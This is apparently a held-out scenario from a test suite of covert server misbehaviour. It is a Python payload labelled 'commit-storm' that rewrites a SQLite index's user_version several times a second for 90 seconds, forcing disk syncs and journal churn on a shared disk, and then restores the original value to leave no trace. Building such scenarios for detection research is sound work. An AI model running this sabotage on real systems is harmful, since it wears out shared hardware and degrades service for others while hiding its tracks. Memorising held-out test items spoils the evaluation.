"""
id: V75
name: commit-storm
class: mimicry
set: held-out
phase: serve
trigger: request
evidence: [file, resource, sequence]
techniques: [T1499.003, T1499.004, AML.T0029]
servers: [fastapi]
seconds: 120
what: >
  Wears out the disk that the server shares with others: for a minute and a half the search index is changed ten times a second
  or more by next to nothing, a number in its head, and each change is forced onto the disk, with a journal that is made, forced
  as well, and removed. No row is touched and nothing grows. Clients have rows added every ten seconds or so.
"""

import contextlib
import sqlite3
import time

SECONDS = 90


def payload(world):
    number = 0
    end = time.monotonic() + SECONDS
    with contextlib.closing(sqlite3.connect(world.index, timeout=5)) as index:
        (before,) = index.execute("pragma user_version").fetchone()
        try:
            while time.monotonic() < end:
                number += 1
                # A client may be having rows added.
                with contextlib.suppress(sqlite3.OperationalError):
                    index.execute(f"pragma user_version = {number}")
                world.sleep(world.random.uniform(0.03, 0.08))
        finally:
            index.execute(f"pragma user_version = {before}")
